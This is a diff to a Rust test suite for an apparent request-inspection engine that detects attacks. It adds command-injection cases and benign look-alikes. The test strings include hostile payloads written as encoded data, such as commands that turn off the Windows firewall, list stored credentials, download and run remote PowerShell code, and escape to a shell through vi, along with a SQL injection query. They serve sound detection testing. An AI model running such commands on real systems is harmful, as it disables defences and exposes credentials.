@@ -466,6 +466,11 @@ fn command_injection_techniques() {
         "x=powershell%20IEX(New-Object%20Net.WebClient).DownloadString(%27http://203.0.113.9/a%27)",
         "x=vi%20-c%20%27%3A!sh%27", // vi's start-up command runs a shell
         "code=%3Bvi%20x%20%2Bsilent%5C%20%5C!whoami%20%2Bwq",
+        "x=which%20nc%20python3", // where the next step's tools are
+        "x=command%20-v%20curl",
+        "x=netsh%20firewall%20set%20opmode%20disable", // Windows' own tools
+        "x=%26%20netsh%20advfirewall%20set%20allprofiles%20state%20off",
+        "x=cmdkey%20/list",
     ] {
         assert_attack(query(q), "cmdi");
     }
@@ -541,6 +546,9 @@ fn client_names_and_quoted_words_are_not_commands() {
         "cfg=%24%7Bport%3A-8080%7D", // a default, not a substring
         "q=sleep%208%20hours",
         "q=sleep%20well",
+        "q=which%20one",              // a question, not a lookup
+        "q=which%20python%20version", // a word that is not a tool
+        "q=whereis%20the%20station",
     ] {
         assert_clean(query(q));
     }
@@ -989,6 +997,19 @@ fn remembered_clean_headers_never_hide_an_attack_in_a_header() {
         let v = engine.inspect(&shellshock);
         assert!(v.is_attack(), "{:?}", v.hits);
     }
+    // A value found clean in one header is inspected again in another: `id` is a note in
+    // `X-Note` and a command line as the User-Agent, even later in the same request.
+    let noted = Request {
+        headers: vec![("X-Note".into(), "id".into())],
+        ..query("q=shoes")
+    };
+    assert!(!engine.inspect(&noted).is_attack());
+    assert!(engine.inspect(&with_agent("id")).is_attack());
+    let both = with_headers(
+        query("q=shoes"),
+        &[("X-Note", "uname"), ("User-Agent", "uname")],
+    );
+    assert!(engine.inspect(&both).is_attack());
     // The same engine still inspects the other values of a request whose headers it knows.
     let v = engine.inspect(&Request {
         query: "q=1'+union+select+password+from+users--".into(),
